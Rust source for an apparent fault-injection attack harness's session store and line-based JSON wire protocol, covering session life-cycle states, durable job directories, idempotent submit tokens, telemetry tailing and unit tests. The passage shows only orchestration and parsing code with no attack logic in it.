    pub fn as_str(self) -> &'static str {
        match self {
            SessionState::Queued => "queued",
            SessionState::Running => "running",
            SessionState::Recovered => "recovered",
            SessionState::Exhausted => "exhausted",
            SessionState::Failed => "failed",
            SessionState::Cancelled => "cancelled",
        }
    }

    /// Parses the wire string back.
    #[must_use]
    #[allow(clippy::should_implement_trait)]
    pub fn from_str(s: &str) -> Option<Self> {
        Some(match s {
            "queued" => SessionState::Queued,
            "running" => SessionState::Running,
            "recovered" => SessionState::Recovered,
            "exhausted" => SessionState::Exhausted,
            "failed" => SessionState::Failed,
            "cancelled" => SessionState::Cancelled,
            _ => return None,
        })
    }
}

/// A point-in-time view of one session, as reported by
/// [`SessionHandle::status`] and the `status` wire verb.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SessionStatus {
    /// The session id (`s000042`).
    pub id: String,
    /// Life-cycle state.
    pub state: SessionState,
    /// The worker currently (or last) running it.
    pub worker: Option<usize>,
    /// How many times the session changed hands (steals + boot
    /// resumes).
    pub steals: u64,
    /// Effort accounting (final for terminal sessions, zero before).
    pub stats: CellStats,
    /// Failure note / exhaustion summary, when any.
    pub note: String,
}

/// The live NDJSON telemetry of a session, shared between the
/// worker's tee sink and `tail` readers.
#[derive(Debug, Clone, Default)]
pub struct TapBuffer {
    bytes: Arc<Mutex<Vec<u8>>>,
}

impl TapBuffer {
    /// The complete NDJSON lines captured so far.
    #[must_use]
    pub fn lines(&self) -> Vec<String> {
        let bytes = self.bytes.lock().expect("tap lock");
        let text = String::from_utf8_lossy(&bytes);
        let mut lines: Vec<String> = text.split('\n').map(str::to_string).collect();
        // A trailing partial line (no newline yet) is not complete.
        if let Some(last) = lines.last() {
            if last.is_empty() || !text.ends_with('\n') {
                lines.pop();
            }
        }
        lines.retain(|l| !l.is_empty());
        lines
    }

    fn append(&self, buf: &[u8]) {
        self.bytes.lock().expect("tap lock").extend_from_slice(buf);
    }
}

/// A telemetry sink that tees every NDJSON event to the session's
/// on-disk trace file and its in-memory [`TapBuffer`] (what `tail`
/// streams).
#[derive(Debug)]
pub struct TeeSink {
    file: fs::File,
    tap: TapBuffer,
}

impl TeeSink {
    /// A sink writing `path` (truncated) and `tap`.
    ///
    /// # Errors
    ///
    /// The underlying `File::create` error.
    pub fn create(path: &Path, tap: TapBuffer) -> io::Result<Self> {
        Ok(Self { file: fs::File::create(path)?, tap })
    }
}

impl Write for TeeSink {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        self.tap.append(buf);
        self.file.write(buf)
    }

    fn flush(&mut self) -> io::Result<()> {
        self.file.flush()
    }
}

#[derive(Debug)]
struct SlotState {
    state: SessionState,
    worker: Option<usize>,
    steals: u64,
    stats: CellStats,
    note: String,
}

/// The shared record of one session.
#[derive(Debug)]
pub struct SessionSlot {
    id: String,
    spec: SessionSpec,
    layout: SessionLayout,
    cancel: CancelToken,
    tap: TapBuffer,
    state: Mutex<SlotState>,
    changed: Condvar,
}

/// A clonable handle to one fleet session: poll, await, cancel, tap
/// telemetry. This (plus [`SessionSpec`]) is the redesigned public
/// face of running an attack — CLI, server and tests all hold these.
#[derive(Debug, Clone)]
pub struct SessionHandle {
    slot: Arc<SessionSlot>,
}

impl SessionHandle {
    /// The session id (`s000042`).
    #[must_use]
    pub fn id(&self) -> &str {
        &self.slot.id
    }

    /// The submitted spec.
    #[must_use]
    pub fn spec(&self) -> &SessionSpec {
        &self.slot.spec
    }

    /// The session's on-disk layout.
    #[must_use]
    pub fn layout(&self) -> &SessionLayout {
        &self.slot.layout
    }

    /// A point-in-time status snapshot.
    #[must_use]
    pub fn status(&self) -> SessionStatus {
        let s = self.slot.state.lock().expect("slot lock");
        SessionStatus {
            id: self.slot.id.clone(),
            state: s.state,
            worker: s.worker,
            steals: s.steals,
            stats: s.stats.clone(),
            note: s.note.clone(),
        }
    }

    /// The current life-cycle state.
    #[must_use]
    pub fn state(&self) -> SessionState {
        self.slot.state.lock().expect("slot lock").state
    }

    /// Requests cooperative cancellation (takes effect at the next
    /// oracle query).
    pub fn cancel(&self) {
        self.slot.cancel.cancel();
    }

    /// Blocks until the session reaches a terminal state.
    #[must_use]
    pub fn wait(&self) -> SessionStatus {
        let mut s = self.slot.state.lock().expect("slot lock");
        while !s.state.is_terminal() {
            s = self.slot.changed.wait(s).expect("slot lock");
        }
        drop(s);
        self.status()
    }

    /// Blocks until terminal or `timeout`; `None` on timeout.
    #[must_use]
    pub fn wait_timeout(&self, timeout: Duration) -> Option<SessionStatus> {
        let deadline = std::time::Instant::now() + timeout;
        let mut s = self.slot.state.lock().expect("slot lock");
        while !s.state.is_terminal() {
            let left = deadline.checked_duration_since(std::time::Instant::now())?;
            let (guard, result) = self.slot.changed.wait_timeout(s, left).expect("slot lock");
            s = guard;
            if result.timed_out() && !s.state.is_terminal() {
                return None;
            }
        }
        drop(s);
        Some(self.status())
    }

    /// The complete NDJSON telemetry lines captured so far (the
    /// `tail` stream source).
    #[must_use]
    pub fn tap_lines(&self) -> Vec<String> {
        self.slot.tap.lines()
    }

    /// The tap buffer a worker's tee sink writes into.
    #[must_use]
    pub(crate) fn tap(&self) -> TapBuffer {
        self.slot.tap.clone()
    }

    /// The cancellation token the worker threads through
    /// [`SessionIo`](super::session::SessionIo).
    #[must_use]
    pub(crate) fn cancel_token(&self) -> CancelToken {
        self.slot.cancel.clone()
    }

    /// Marks the session running on `worker`.
    pub(crate) fn mark_running(&self, worker: usize) {
        let mut s = self.slot.state.lock().expect("slot lock");
        s.state = SessionState::Running;
        s.worker = Some(worker);
        drop(s);
        self.slot.changed.notify_all();
    }

    /// Returns the session to the queued state after a steal or a
    /// worker death, counting the hand-over.
    pub(crate) fn mark_requeued(&self) {
        let mut s = self.slot.state.lock().expect("slot lock");
        s.state = SessionState::Queued;
        s.steals += 1;
        drop(s);
        self.slot.changed.notify_all();
    }

    /// Finishes the session: records the outcome, persists the
    /// one-line `result.json` (atomic sibling-rename write), and
    /// wakes every waiter. Persistence failure is folded into the
    /// note rather than escalated — the in-memory outcome stands.
    pub(crate) fn finish(&self, outcome: &SessionOutcome) {
        let stats = outcome.stats();
        let state = match outcome {
            SessionOutcome::Recovered(_) => SessionState::Recovered,
            SessionOutcome::Exhausted { .. } => SessionState::Exhausted,
            SessionOutcome::Failed { .. } => SessionState::Failed,
            SessionOutcome::Cancelled => SessionState::Cancelled,
        };
        let mut note = outcome.note().to_string();
        let line = wire::result_json(state, &stats, outcome.note());
        if let Err(e) = journal::write_atomic(&self.slot.layout.result(), line.as_bytes()) {
            note = format!("{note} [result.json not persisted: {e}]");
        }
        let mut s = self.slot.state.lock().expect("slot lock");
        s.state = state;
        s.stats = stats;
        s.note = note;
        drop(s);
        self.slot.changed.notify_all();
    }
}

/// The session table plus its durable root directory.
#[derive(Debug)]
pub struct SessionStore {
    root: PathBuf,
    slots: Mutex<BTreeMap<String, Arc<SessionSlot>>>,
    next: Mutex<u64>,
    /// Submit idempotency: token → session id. Rebuilt from the
    /// per-session token files on boot, so a client retrying a submit
    /// across a daemon restart still dedupes.
    tokens: Mutex<BTreeMap<String, String>>,
}

impl SessionStore {
    /// Opens (or creates) the store rooted at `root` and rescans it:
    /// session directories with a `result.json` come back as terminal
    /// slots; directories without one are returned as the second
    /// element — interrupted sessions the scheduler must requeue and
    /// resume from their journals.
    ///
    /// # Errors
    ///
    /// [`SessionError::Layout`] when the root cannot be created or
    /// read.
    pub fn open(root: impl Into<PathBuf>) -> Result<(Self, Vec<SessionHandle>), SessionError> {
        let root = root.into();
        let io_err = |source| {
            SessionError::Layout(super::layout::LayoutError::Io { dir: root.clone(), source })
        };
        fs::create_dir_all(&root).map_err(io_err)?;
        let store = Self {
            root: root.clone(),
            slots: Mutex::new(BTreeMap::new()),
            next: Mutex::new(1),
            tokens: Mutex::new(BTreeMap::new()),
        };
        let mut pending = Vec::new();
        let mut max_id = 0u64;
        for entry in fs::read_dir(&root).map_err(io_err)? {
            let entry = entry.map_err(io_err)?;
            let name = entry.file_name().to_string_lossy().into_owned();
            let Some(seq) = parse_session_id(&name) else { continue };
            max_id = max_id.max(seq);
            let layout = SessionLayout::for_session(&root, &name);
            let Ok(spec_line) = fs::read_to_string(layout.spec()) else { continue };
            let Ok(spec) = SessionSpec::from_wire(spec_line.trim()) else { continue };
            if let Ok(token) = fs::read_to_string(layout.token()) {
                let token = token.trim().to_string();
                if !token.is_empty() {
                    store.tokens.lock().expect("token lock").insert(token, name.clone());
                }
            }
            let (state, stats, note, requeue) = match fs::read_to_string(layout.result()) {
                // A result that exists but does not parse is a torn
                // write (crash mid-rename): the truth it recorded is
                // gone, so requeue and let the deterministic attack
                // re-derive it — same seed, same totals.
                Ok(line) => match wire::parse_result_json(&line) {
                    Some((state, stats, note)) => (state, stats, note, false),
                    None => {
                        let _ = fs::remove_file(layout.result());
                        (SessionState::Queued, CellStats::default(), String::new(), true)
                    }
                },
                // No result: the session was interrupted — requeue it.
                Err(_) => (SessionState::Queued, CellStats::default(), String::new(), true),
            };
            let slot = Arc::new(SessionSlot {
                id: name.clone(),
                spec,
                layout,
                cancel: CancelToken::new(),
                tap: TapBuffer::default(),
                state: Mutex::new(SlotState { state, worker: None, steals: 0, stats, note }),
                changed: Condvar::new(),
            });
            let handle = SessionHandle { slot: slot.clone() };
            store.slots.lock().expect("slots lock").insert(name, slot);
            if requeue {
                pending.push(handle);
            }
        }
        *store.next.lock().expect("id lock") = max_id + 1;
        Ok((store, pending))
    }

    /// The fleet root directory.
    #[must_use]
    pub fn root(&self) -> &Path {
        &self.root
    }

    /// Admits a new session: assigns the next id, atomically creates
    /// its directory seeded with the wire-form spec, and returns the
    /// handle (state [`SessionState::Queued`]).
    ///
    /// # Errors
    ///
    /// [`SessionError::Layout`] when the directory cannot be created.
    pub fn admit(&self, spec: SessionSpec) -> Result<SessionHandle, SessionError> {
        self.admit_with_token(spec, None).map(|(handle, _)| handle)
    }

    /// [`SessionStore::admit`] with an optional client idempotency
    /// token. A token the store has already admitted returns the
    /// *original* session's handle and `true` — a client retrying a
    /// submit whose acknowledgement was lost mid-frame never enqueues
    /// a twin. The token is persisted inside the session directory so
    /// dedup survives a daemon restart.
    ///
    /// # Errors
    ///
    /// [`SessionError::Layout`] when the directory cannot be created.
    pub fn admit_with_token(
        &self,
        spec: SessionSpec,
        token: Option<&str>,
    ) -> Result<(SessionHandle, bool), SessionError> {
        // Held across id allocation + directory creation so two racing
        // submits with one token cannot both miss the map.
        let mut tokens = self.tokens.lock().expect("token lock");
        if let Some(token) = token {
            if let Some(id) = tokens.get(token) {
                if let Some(handle) = self.get(id) {
                    return Ok((handle, true));
                }
            }
        }
        let id = {
            let mut next = self.next.lock().expect("id lock");
            let id = format!("s{:06}", *next);
            *next += 1;
            id
        };
        let layout = SessionLayout::for_session(&self.root, &id);
        let spec_line = format!("{}\n", spec.to_wire());
        let token_line;
        let mut seed_files = vec![(SPEC_FILE, spec_line.as_str())];
        if let Some(token) = token {
            token_line = format!("{token}\n");
            seed_files.push((TOKEN_FILE, token_line.as_str()));
        }
        layout.create(&seed_files)?;
        if let Some(token) = token {
            tokens.insert(token.to_string(), id.clone());
        }
        drop(tokens);
        let slot = Arc::new(SessionSlot {
            id: id.clone(),
            spec,
            layout,
            cancel: CancelToken::new(),
            tap: TapBuffer::default(),
            state: Mutex::new(SlotState {
                state: SessionState::Queued,
                worker: None,
                steals: 0,
                stats: CellStats::default(),
                note: String::new(),
            }),
            changed: Condvar::new(),
        });
        self.slots.lock().expect("slots lock").insert(id, slot.clone());
        Ok((SessionHandle { slot }, false))
    }

    /// The handle of session `id`, when known.
    #[must_use]
    pub fn get(&self, id: &str) -> Option<SessionHandle> {
        self.slots
            .lock()
            .expect("slots lock")
            .get(id)
            .map(|slot| SessionHandle { slot: slot.clone() })
    }

    /// Every known session, in id order.
    #[must_use]
    pub fn all(&self) -> Vec<SessionHandle> {
        self.slots
            .lock()
            .expect("slots lock")
            .values()
            .map(|slot| SessionHandle { slot: slot.clone() })
            .collect()
    }
}

/// Parses `s000042`-style ids back to their sequence number.
fn parse_session_id(name: &str) -> Option<u64> {
    let digits = name.strip_prefix('s')?;
    if digits.len() != 6 {
        return None;
    }
    digits.parse().ok()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn temp_root(tag: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!("bitmod-store-{tag}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        dir
    }

    #[test]
    fn admit_creates_a_seeded_directory_and_sequential_ids() {
        let root = temp_root("admit");
        let (store, pending) = SessionStore::open(&root).expect("opens");
        assert!(pending.is_empty());
        let spec = SessionSpec::builder().seed(9).build().expect("valid");
        let a = store.admit(spec.clone()).expect("admits");
        let b = store.admit(spec).expect("admits");
        assert_eq!(a.id(), "s000001");
        assert_eq!(b.id(), "s000002");
        assert_eq!(a.state(), SessionState::Queued);
        let on_disk = fs::read_to_string(a.layout().spec()).expect("spec file");
        assert_eq!(SessionSpec::from_wire(on_disk.trim()).expect("parses"), *a.spec());
        let _ = fs::remove_dir_all(&root);
    }

    #[test]
    fn boot_scan_rebuilds_terminal_slots_and_requeues_interrupted_ones() {
        let root = temp_root("boot");
        {
            let (store, _) = SessionStore::open(&root).expect("opens");
            let spec = SessionSpec::builder().build().expect("valid");
            let done = store.admit(spec.clone()).expect("admits");
            let _interrupted = store.admit(spec).expect("admits");
            done.finish(&SessionOutcome::Recovered(CellStats {
                physical: 545,
                logical: 100,
                retries: 0,
                backoff_ms: 0,
            }));
        }
        // "New process": reopen the same root.
        let (store, pending) = SessionStore::open(&root).expect("reopens");
        assert_eq!(pending.len(), 1, "only the resultless session is requeued");
        assert_eq!(pending[0].id(), "s000002");
        let done = store.get("s000001").expect("terminal slot rebuilt");
        let status = done.status();
        assert_eq!(status.state, SessionState::Recovered);
        assert_eq!(status.stats.physical, 545);
        // Fresh ids continue past the scanned maximum.
        let next = store.admit(SessionSpec::builder().build().unwrap()).expect("admits");
        assert_eq!(next.id(), "s000003");
        let _ = fs::remove_dir_all(&root);
    }

    #[test]
    fn tokened_admission_dedupes_within_and_across_boots() {
        let root = temp_root("token");
        let spec = SessionSpec::builder().seed(4).build().expect("valid");
        {
            let (store, _) = SessionStore::open(&root).expect("opens");
            let (a, deduped) = store.admit_with_token(spec.clone(), Some("tok-1")).expect("admits");
            assert!(!deduped);
            let (b, deduped) = store.admit_with_token(spec.clone(), Some("tok-1")).expect("dedups");
            assert!(deduped);
            assert_eq!(a.id(), b.id());
            let (c, deduped) = store.admit_with_token(spec.clone(), Some("tok-2")).expect("admits");
            assert!(!deduped);
            assert_ne!(a.id(), c.id());
            assert_eq!(store.all().len(), 2);
        }
        // The token file survives the restart and still dedupes.
        let (store, pending) = SessionStore::open(&root).expect("reopens");
        assert_eq!(pending.len(), 2, "both interrupted sessions requeue");
        let (again, deduped) = store.admit_with_token(spec, Some("tok-1")).expect("dedups");
        assert!(deduped);
        assert_eq!(again.id(), "s000001");
        assert_eq!(store.all().len(), 2);
        let _ = fs::remove_dir_all(&root);
    }

    #[test]
    fn a_torn_result_json_requeues_instead_of_reporting_garbage() {
        let root = temp_root("torn-result");
        {
            let (store, _) = SessionStore::open(&root).expect("opens");
            let handle = store.admit(SessionSpec::builder().build().unwrap()).expect("admits");
            handle.finish(&SessionOutcome::Recovered(CellStats {
                physical: 545,
                logical: 100,
                retries: 0,
                backoff_ms: 0,
            }));
            // Tear the result mid-line, as a crash between write and
            // fsync would.
            let full = fs::read_to_string(handle.layout().result()).expect("result");
            fs::write(handle.layout().result(), &full[..full.len() / 2]).expect("tears");
        }
        let (store, pending) = SessionStore::open(&root).expect("reopens");
        assert_eq!(pending.len(), 1, "the torn session is requeued, not marked failed");
        assert_eq!(pending[0].state(), SessionState::Queued);
        assert!(!pending[0].layout().result().exists(), "the torn record is cleared");
        drop(store);
        let _ = fs::remove_dir_all(&root);
    }

    #[test]
    fn wait_timeout_times_out_on_a_queued_session() {
        let root = temp_root("wait");
        let (store, _) = SessionStore::open(&root).expect("opens");
        let handle = store.admit(SessionSpec::builder().build().unwrap()).expect("admits");
        assert!(handle.wait_timeout(Duration::from_millis(20)).is_none());
        handle.finish(&SessionOutcome::Cancelled);
        let status = handle.wait_timeout(Duration::from_millis(20)).expect("terminal");
        assert_eq!(status.state, SessionState::Cancelled);
        let _ = fs::remove_dir_all(&root);
    }

    #[test]
    fn tap_buffer_returns_only_complete_lines() {
        let tap = TapBuffer::default();
        tap.append(b"{\"seq\":0}\n{\"seq\":1}\n{\"par");
        assert_eq!(tap.lines(), vec!["{\"seq\":0}".to_string(), "{\"seq\":1}".to_string()]);
        tap.append(b"tial\":true}\n");
        assert_eq!(tap.lines().len(), 3);
    }
}
