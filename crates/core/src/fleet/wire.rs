//! The fleet's framed line protocol.
//!
//! Requests are single text lines (≤ [`MAX_LINE`] bytes), responses
//! single JSON lines — the same NDJSON discipline the telemetry trace
//! uses, so `bitmod tail` can interleave the two streams without a
//! second framing layer. The verbs:
//!
//! | request                     | response                                |
//! |-----------------------------|-----------------------------------------|
//! | `submit [token=<t>] <k=v ...>` | `{"ok":true,"id":"s000042"}` (`,"deduped":true` on an idempotent replay) |
//! | `status <id>`               | `{"ok":true,"id":…,"state":…,…}`        |
//! | `list`                      | `{"ok":true,"sessions":[…]}`            |
//! | `tail <id> [from=N]`        | telemetry NDJSON…, then `{"ok":true,"done":true,…}` |
//! | `cancel <id>`               | `{"ok":true,"id":…}`                    |
//! | `counters`                  | `{"ok":true,"counters":{…}}`            |
//! | `health`                    | `{"ok":true,"fault_gap":…,"boards":[…]}` |
//! | `ping`                      | `{"ok":true,"pong":true}`               |
//! | `shutdown`                  | `{"ok":true,"shutdown":true}`           |
//!
//! Every failure is `{"ok":false,"error":"…"}`. The submit payload is
//! exactly [`SessionSpec::to_wire`], so a spec that validates in the
//! CLI validates on the server — one construction path.
//!
//! Two affordances exist for flaky links: a client-generated submit
//! `token` makes retried submits idempotent (the server dedupes
//! against the session store instead of double-enqueuing), and the
//! `tail` cursor (`from=N`, events already seen) lets a dropped
//! stream resume without replaying or losing events. Idle `tail`
//! streams carry `{"ok":true,"hb":N}` heartbeats so both ends can
//! tell a quiet session from a dead peer.

use crate::campaign::CellStats;

use super::health::WorkerHealth;
use super::session::{ConfigError, SessionSpec};
use super::store::{SessionState, SessionStatus};

/// Hard cap on a protocol line: a submit line is well under 200
/// bytes, so anything near this is garbage or abuse.
pub const MAX_LINE: usize = 8 * 1024;

/// Hard cap on a submit idempotency token.
pub const MAX_TOKEN: usize = 64;

/// A malformed request line.
#[derive(Debug, PartialEq)]
#[non_exhaustive]
pub enum WireError {
    /// The line exceeded [`MAX_LINE`] bytes.
    LineTooLong(usize),
    /// The verb is not part of the protocol.
    UnknownVerb(String),
    /// The verb needs an argument (`status`/`tail`/`cancel` need an
    /// id, `submit` a spec).
    MissingArgument(&'static str),
    /// The submit payload failed spec validation.
    BadSpec(ConfigError),
    /// The request bytes are not UTF-8 — a garbled or binary frame.
    NotUtf8,
    /// The submit idempotency token is malformed (must be 1 to
    /// [`MAX_TOKEN`] ASCII alphanumeric/`-`/`_` characters).
    BadToken(String),
    /// The `tail` cursor is not a number.
    BadCursor(String),
}

impl core::fmt::Display for WireError {
    fn fmt(&self, f: &mut core::fmt::Formatter<'_>) -> core::fmt::Result {
        match self {
            WireError::LineTooLong(n) => write!(f, "request line of {n} bytes exceeds {MAX_LINE}"),
            WireError::UnknownVerb(v) => write!(f, "unknown verb '{v}'"),
            WireError::MissingArgument(what) => write!(f, "missing {what}"),
            WireError::BadSpec(e) => write!(f, "invalid spec: {e}"),
            WireError::NotUtf8 => write!(f, "request is not valid UTF-8"),
            WireError::BadToken(t) => write!(f, "malformed submit token '{t}'"),
            WireError::BadCursor(c) => write!(f, "malformed tail cursor '{c}'"),
        }
    }
}

impl std::error::Error for WireError {}

/// A parsed request line.
#[derive(Debug, Clone, PartialEq)]
pub enum Request {
    /// Admit a new session. The optional client-generated `token`
    /// makes retried submits idempotent: a token the store has seen
    /// returns the original session id instead of enqueuing a twin.
    Submit {
        /// The validated session spec.
        spec: SessionSpec,
        /// The client's idempotency token, if it sent one.
        token: Option<String>,
    },
    /// One session's status.
    Status(String),
    /// Every session's status.
    List,
    /// Stream a session's NDJSON telemetry until it is terminal,
    /// skipping the first `from` events (already seen by a resuming
    /// subscriber).
    Tail {
        /// The session id.
        id: String,
        /// Events already delivered to this subscriber.
        from: u64,
    },
    /// Cancel a session.
    Cancel(String),
    /// The fleet-level counters.
    Counters,
    /// Per-worker board health and the observed-vs-injected fault
    /// gap.
    Health,
    /// Liveness probe.
    Ping,
    /// Stop the server (sessions still queued stay journalled on disk
    /// and resume on the next boot).
    Shutdown,
}

impl Request {
    /// Parses one request line.
    ///
    /// # Errors
    ///
    /// A typed [`WireError`]; the server renders it into the standard
    /// error response.
    pub fn parse(line: &str) -> Result<Self, WireError> {
        if line.len() > MAX_LINE {
            return Err(WireError::LineTooLong(line.len()));
        }
        let line = line.trim();
        let (verb, rest) = match line.split_once(char::is_whitespace) {
            Some((verb, rest)) => (verb, rest.trim()),
            None => (line, ""),
        };
        let id = |what| {
            if rest.is_empty() {
                Err(WireError::MissingArgument(what))
            } else {
                Ok(rest.to_string())
            }
        };
        Ok(match verb {
            "submit" => {
                if rest.is_empty() {
                    return Err(WireError::MissingArgument("session spec"));
                }
                let (token, spec_text) = match rest.strip_prefix("token=") {
                    Some(tail) => {
                        let (token, spec_text) = match tail.split_once(char::is_whitespace) {
                            Some((token, spec_text)) => (token, spec_text.trim()),
                            None => (tail, ""),
                        };
                        if token.is_empty()
                            || token.len() > MAX_TOKEN
                            || !token
                                .bytes()
                                .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_')
                        {
                            return Err(WireError::BadToken(token.to_string()));
                        }
                        (Some(token.to_string()), spec_text)
                    }
                    None => (None, rest),
                };
                if spec_text.is_empty() {
                    return Err(WireError::MissingArgument("session spec"));
                }
                Request::Submit {
                    spec: SessionSpec::from_wire(spec_text).map_err(WireError::BadSpec)?,
                    token,
                }
            }
            "status" => Request::Status(id("session id")?),
            "list" => Request::List,
            "tail" => {
                let (id, from) = match rest.split_once(char::is_whitespace) {
                    Some((id, cursor)) => {
                        let cursor = cursor.trim();
                        let digits = cursor
                            .strip_prefix("from=")
                            .ok_or_else(|| WireError::BadCursor(cursor.to_string()))?;
                        let from =
                            digits.parse().map_err(|_| WireError::BadCursor(cursor.to_string()))?;
                        (id, from)
                    }
                    None => (rest, 0),
                };
                if id.is_empty() {
                    return Err(WireError::MissingArgument("session id"));
                }
                Request::Tail { id: id.to_string(), from }
            }
            "cancel" => Request::Cancel(id("session id")?),
            "counters" => Request::Counters,
            "health" => Request::Health,
            "ping" => Request::Ping,
            "shutdown" => Request::Shutdown,
            other => return Err(WireError::UnknownVerb(other.to_string())),
        })
    }

    /// Renders the request back to its line form (what the client
    /// sends).
    #[must_use]
    pub fn to_line(&self) -> String {
        match self {
            Request::Submit { spec, token: None } => format!("submit {}", spec.to_wire()),
            Request::Submit { spec, token: Some(token) } => {
                format!("submit token={token} {}", spec.to_wire())
            }
            Request::Status(id) => format!("status {id}"),
            Request::List => "list".to_string(),
            Request::Tail { id, from: 0 } => format!("tail {id}"),
            Request::Tail { id, from } => format!("tail {id} from={from}"),
            Request::Cancel(id) => format!("cancel {id}"),
            Request::Counters => "counters".to_string(),
            Request::Health => "health".to_string(),
            Request::Ping => "ping".to_string(),
            Request::Shutdown => "shutdown".to_string(),
        }
    }
}

/// Decodes one raw request frame (without its trailing newline) into
/// a [`Request`]: total over arbitrary bytes. The length cap is
/// checked *before* UTF-8 validation so an oversized binary blast is
/// rejected without inspecting it, and a garbled frame (chaos flips a
/// high bit) fails typed as [`WireError::NotUtf8`] instead of being
/// parsed as an imposter request.
///
/// # Errors
///
/// A typed [`WireError`] for oversized, non-UTF-8, or malformed
/// frames; never panics, never allocates beyond the frame itself.
pub fn decode_line(bytes: &[u8]) -> Result<Request, WireError> {
    if bytes.len() > MAX_LINE {
        return Err(WireError::LineTooLong(bytes.len()));
    }
    let line = std::str::from_utf8(bytes).map_err(|_| WireError::NotUtf8)?;
    Request::parse(line)
}

/// Escapes a string for embedding in a JSON literal.
#[must_use]
pub fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

/// The standard error response.
#[must_use]
pub fn error_json(message: &str) -> String {
    format!("{{\"ok\":false,\"error\":\"{}\"}}", json_escape(message))
}

/// The submit acknowledgement.
#[must_use]
pub fn submit_json(id: &str) -> String {
    format!("{{\"ok\":true,\"id\":\"{}\"}}", json_escape(id))
}

/// The submit acknowledgement for an idempotent replay: the token was
/// already admitted, so the original session id comes back instead of
/// a twin being enqueued.
#[must_use]
pub fn submit_deduped_json(id: &str) -> String {
    format!("{{\"ok\":true,\"id\":\"{}\",\"deduped\":true}}", json_escape(id))
}

/// A `tail` heartbeat: emitted on an idle stream so a subscriber can
/// tell a quiet session from a dead peer (and the server can reap
/// subscribers whose socket stops accepting them).
#[must_use]
pub fn heartbeat_json(n: u64) -> String {
    format!("{{\"ok\":true,\"hb\":{n}}}")
}

/// Whether a line is a `tail` heartbeat (not a telemetry event — a
/// cursor-counting subscriber must skip it).
#[must_use]
pub fn is_heartbeat(line: &str) -> bool {
    is_ok(line) && line.contains("\"hb\":")
}

/// One status object (without the `ok` envelope — `status` wraps it,
/// `list` embeds many).
#[must_use]
pub fn status_object(status: &SessionStatus) -> String {
    let worker = match status.worker {
        Some(w) => w.to_string(),
        None => "null".to_string(),
    };
    format!(
        "{{\"id\":\"{}\",\"state\":\"{}\",\"worker\":{worker},\"steals\":{},\
         \"physical\":{},\"logical\":{},\"retries\":{},\"backoff_ms\":{},\"note\":\"{}\"}}",
        json_escape(&status.id),
        status.state.as_str(),
        status.steals,
        status.stats.physical,
        status.stats.logical,
        status.stats.retries,
        status.stats.backoff_ms,
        json_escape(&status.note),
    )
}

/// The `status` response.
#[must_use]
pub fn status_json(status: &SessionStatus) -> String {
    let object = status_object(status);
    format!("{{\"ok\":true,{}", &object[1..])
}

/// The `list` response.
#[must_use]
pub fn list_json(statuses: &[SessionStatus]) -> String {
    let sessions: Vec<String> = statuses.iter().map(status_object).collect();
    format!("{{\"ok\":true,\"sessions\":[{}]}}", sessions.join(","))
}

/// The `tail` terminator, carrying the terminal state.
#[must_use]
pub fn tail_done_json(status: &SessionStatus) -> String {
    format!(
        "{{\"ok\":true,\"done\":true,\"id\":\"{}\",\"state\":\"{}\"}}",
        json_escape(&status.id),
        status.state.as_str()
    )
}

/// The `counters` response from name/value pairs.
#[must_use]
pub fn counters_json(counters: &[(String, u64)]) -> String {
    let fields: Vec<String> =
        counters.iter().map(|(name, v)| format!("\"{}\":{v}", json_escape(name))).collect();
    format!("{{\"ok\":true,\"counters\":{{{}}}}}", fields.join(","))
}

/// The `health` response: one object per worker board plus the
/// fleet-wide observed-vs-injected fault gap (faults the board
/// injected that the attack never saw — absorbed by voting and
/// retries).
#[must_use]
pub fn health_json(rows: &[WorkerHealth], fault_gap: u64) -> String {
    let boards: Vec<String> = rows
        .iter()
        .map(|row| {
            format!(
                "{{\"worker\":{},\"health\":\"{}\",\"sessions\":{},\"loads\":{},\
                 \"faults\":{},\"fault_milli\":{}}}",
                row.worker,
                row.health(),
                row.score.sessions,
                row.score.loads,
                row.score.faults,
                row.score.fault_milli(),
            )
        })
        .collect();
    format!("{{\"ok\":true,\"fault_gap\":{fault_gap},\"boards\":[{}]}}", boards.join(","))
}

/// The one-line terminal `result.json` a finished session persists.
#[must_use]
pub fn result_json(state: SessionState, stats: &CellStats, note: &str) -> String {
    format!(
        "{{\"state\":\"{}\",\"physical\":{},\"logical\":{},\"retries\":{},\
         \"backoff_ms\":{},\"note\":\"{}\"}}\n",
        state.as_str(),
        stats.physical,
        stats.logical,
        stats.retries,
        stats.backoff_ms,
        json_escape(note),
    )
}

/// Parses a `result.json` line back (boot-time slot rebuild).
#[must_use]
pub fn parse_result_json(line: &str) -> Option<(SessionState, CellStats, String)> {
    let state = SessionState::from_str(&string_field(line, "state")?)?;
    let stats = CellStats {
        physical: number_field(line, "physical")?,
        logical: number_field(line, "logical")?,
        retries: number_field(line, "retries")?,
        backoff_ms: number_field(line, "backoff_ms")?,
    };
    Some((state, stats, string_field(line, "note").unwrap_or_default()))
}

/// Extracts `"name":"value"` from a flat JSON line, un-escaping the
/// common sequences [`json_escape`] produces.
#[must_use]
pub fn string_field(line: &str, name: &str) -> Option<String> {
    let key = format!("\"{name}\":\"");
    let start = line.find(&key)? + key.len();
    let mut out = String::new();
    let mut chars = line[start..].chars();
    while let Some(c) = chars.next() {
        match c {
            '"' => return Some(out),
            '\\' => match chars.next()? {
                'n' => out.push('\n'),
                'r' => out.push('\r'),
                't' => out.push('\t'),
                'u' => {
                    let hex: String = chars.by_ref().take(4).collect();
                    let code = u32::from_str_radix(&hex, 16).ok()?;
                    out.push(char::from_u32(code)?);
                }
                escaped => out.push(escaped),
            },
            c => out.push(c),
        }
    }
    None
}

/// Extracts `"name":1234` from a flat JSON line.
#[must_use]
pub fn number_field(line: &str, name: &str) -> Option<u64> {
    let key = format!("\"{name}\":");
    let start = line.find(&key)? + key.len();
    let digits: String = line[start..].chars().take_while(char::is_ascii_digit).collect();
    digits.parse().ok()
}

/// Whether a response line reports success.
#[must_use]
